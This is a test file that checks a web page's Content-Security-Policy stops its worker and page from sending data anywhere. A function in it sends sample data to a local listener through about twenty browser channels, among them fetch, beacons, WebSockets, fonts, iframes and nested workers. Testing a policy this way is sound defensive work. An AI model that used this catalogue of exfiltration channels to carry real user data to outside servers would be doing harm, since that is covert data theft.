// Nothing leaves the page: code inside its worker, and code in the page, tries each way to send something to another server.
import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { chromium } from "playwright-core";
import { root } from "./program.js";
import { serve } from "./serve.js";

const dist = join(root, "crates/iamgate-wasm/page/dist");
const open = mkdtempSync(join(tmpdir(), "iamgate-page-"));

/** A server that notes the first word of each path that it is asked for, and the bytes of all connections. */
async function listener() {
  const arrived = new Set();
  const sockets = new Set();
  const note = ({ url }) => arrived.add(/^\/([a-zA-Z]+)/.exec(url)?.[1] ?? url);
  const server = createServer((request, response) => {
    note(request);
    response.writeHead(204);
    response.end();
  });
  server.on("upgrade", (request, socket) => (note(request), socket.destroy()));
  server.on("connection", (socket) => sockets.add(socket));
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  const { port } = server.address();
  // HTTP/3, on the port of the same number.
  const packets = createSocket("udp4");
  packets.on("message", () => arrived.add("webTransport"));
  await new Promise((done) => packets.bind(port, "127.0.0.1", done));
  const close = () => {
    packets.close();
    server.closeAllConnections();
    return new Promise((done) => server.close(done));
  };
  return { url: `http://127.0.0.1:${port}`, arrived, connections: () => sockets.size, bytes: () => [...sockets].reduce((sum, { bytesRead }) => sum + bytesRead, 0), close };
}

/** Tries all ways that there are where it runs, and returns their names. It runs in the worker and in the page, so it uses nothing of this file. */
async function tryAll(to) {
  const tried = [];
  const documents = "a role's documents";
  const attempt = async (name, send) => {
    tried.push(name);
    const end = new Promise((done) => setTimeout(done, 1500));
    try {
      await Promise.race([send(`${to}/${name}?${encodeURIComponent(documents)}`), end]);
    } catch {
      // It was refused, or the server answered with nothing useful. The server knows whether something arrived.
    }
  };
  const settled = (own, events) => new Promise((done) => events.forEach((event) => own.addEventListener(event, done)));
  await attempt("fetch", (url) => fetch(url, { method: "POST", mode: "no-cors", body: documents }));
  await attempt("keepalive", (url) => fetch(url, { method: "POST", mode: "no-cors", body: documents, keepalive: true }));
  await attempt("xhr", (url) => {
    const request = new XMLHttpRequest();
    request.open("POST", url);
    request.send(documents);
    return settled(request, ["loadend"]);
  });
  if (navigator.sendBeacon) await attempt("beacon", (url) => (navigator.sendBeacon(url, documents), new Promise((done) => setTimeout(done, 500))));
  await attempt("webSocket", (url) => settled(new WebSocket(url.replace("http", "ws")), ["open", "error", "close"]));
  await attempt("eventSource", (url) => {
    const source = new EventSource(url);
    return settled(source, ["error"]).then(() => source.close());
  });
  if (globalThis.WebTransport) await attempt("webTransport", (url) => new WebTransport(url.replace("http:", "https:")).ready);
  if (globalThis.importScripts) await attempt("importScripts", (url) => importScripts(url));
  await attempt("import", (url) => import(url));
  if (globalThis.FontFace) await attempt("font", (url) => new FontFace("Sent", `url("${url}")`).load());
  if (globalThis.caches) await attempt("cache", async (url) => (await caches.open("sent")).add(url));
  await attempt("nestedWorker", (url) => {
    const code = `fetch(${JSON.stringify(url)}, { method: "POST", mode: "no-cors", body: "x" }).finally(() => postMessage(0))`;
    return settled(new Worker(URL.createObjectURL(new Blob([code]))), ["message", "error"]);
  });
  if (globalThis.document) {
    await attempt("image", (url) => settled(Object.assign(new Image(), { src: url }), ["load", "error"]));
    const element = (name, set) => attempt(name, (url) => {
      const made = document.createElement(name === "preload" || name === "style" ? "link" : name);
      set(made, url);
      document.body.append(made);
      return settled(made, ["load", "error"]);
    });
    await element("script", (made, url) => (made.src = url));
    await element("style", (made, url) => Object.assign(made, { rel: "stylesheet", href: url }));
    await element("preload", (made, url) => Object.assign(made, { rel: "preload", as: "fetch", href: url }));
    await element("iframe", (made, url) => (made.src = url));
    await element("object", (made, url) => (made.data = url));
    await element("video", (made, url) => (made.src = url));
  }
  return tried;
}

let browser;
let server;
let opened;
before(async () => {
  // The same page without its policy.
  cpSync(dist, open, { recursive: true });
  for (const name of ["index.html", "iamgate.html"]) {
    const html = readFileSync(join(dist, name), "utf8");
    const without = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "");
    assert.notEqual(without, html);
    writeFileSync(join(open, name), without);
  }
  server = await serve(dist);
  opened = await serve(open);
  browser = await chromium.launch({ executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium", args: ["--no-sandbox", "--disable-gpu"] });
});
after(async () => {
  await browser?.close();
  await server?.close();
  await opened?.close();
  rmSync(open, { recursive: true });
});

/** What was tried from the worker and from the page, what arrived, and what the page says of it. */
async function outcome(address) {
  const other = await listener();
  const context = await browser.newContext();
  try {
    return await tried(address, other, await context.newPage());
  } finally {
    // An open server would keep the tests from ending.
    await context.close();
    await other.close();
  }
}

async function tried(address, other, page) {
  await page.goto(address, { timeout: 120_000 });
  await page.waitForFunction(() => document.documentElement.dataset.ready === "yes", null, { timeout: 60_000 });
  const badge = () => page.locator("#requests").innerText();
  const before = await badge();
  const workers = page.workers();
  assert.equal(workers.length, 1, "the page has one worker");
  const from = {};
  for (const [name, place] of [["worker", workers[0]], ["page", page]]) {
    other.arrived.clear();
    const tried = await place.evaluate(tryAll, other.url);
    await page.waitForTimeout(300);
    from[name] = { tried, arrived: tried.filter((own) => other.arrived.has(own)), badge: await badge(), connections: other.connections(), bytes: other.bytes() };
  }
  return { url: workers[0].url(), from, before };
}

const WAYS = ["fetch", "keepalive", "xhr", "webSocket", "eventSource", "webTransport", "importScripts", "import", "font", "nestedWorker"];
const number = (text) => Number(/^(\d+) network requests/.exec(text)[1]);
const stopped = (text) => Number(/and (\d+) that its policy stopped/.exec(text)?.[1] ?? 0);

const PLACES = [
  ["the page", (server) => server.url],
  ["the single file of a server", (server) => `${server.url}iamgate.html`],
  ["the single file of a disk", (_, folder) => `file://${folder}/iamgate.html`],
];

for (const [name, address] of PLACES) {
  test(`${name}: nothing that its worker or the page sends arrives`, async () => {
    const { url, from, before } = await outcome(address(server, dist));
    assert.match(url, /^blob:/);
    assert.equal(before, "0 network requests since the page was ready");
    for (const way of WAYS) assert.ok(from.worker.tried.includes(way), `${way} was not tried`);
    assert.deepEqual(from.worker.arrived, []);
    assert.deepEqual(from.page.arrived, []);
    assert.equal(from.worker.connections, 0);
    // For a frame that it then refuses, Chromium opens a connection and sends nothing.
    assert.equal(from.page.bytes, 0);
    // The page tells about each attempt.
    assert.ok(stopped(from.worker.badge) >= from.worker.tried.length - 2, from.worker.badge);
    assert.ok(stopped(from.page.badge) > stopped(from.worker.badge), from.page.badge);
  });

  test(`${name} without its policy: what is sent arrives, so the test above can fail`, async () => {
    const { from } = await outcome(address(opened, open));
    for (const place of Object.values(from)) assert.deepEqual(place.arrived, place.tried);
    assert.ok(number(from.worker.badge) > 0, from.worker.badge);
    assert.ok(number(from.page.badge) > number(from.worker.badge), from.page.badge);
  });
}

test("the page connects to its own server neither", async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(server.url);
  await page.waitForFunction(() => document.documentElement.dataset.ready === "yes", null, { timeout: 60_000 });
  const asked = server.asked.length;
  for (const place of [page.workers()[0], page]) {
    const said = await place.evaluate((url) => fetch(url, { method: "POST", body: "documents" }).then(() => "sent", () => "refused"), server.url);
    assert.equal(said, "refused");
  }
  assert.deepEqual(server.asked.slice(asked), []);
  await context.close();
});
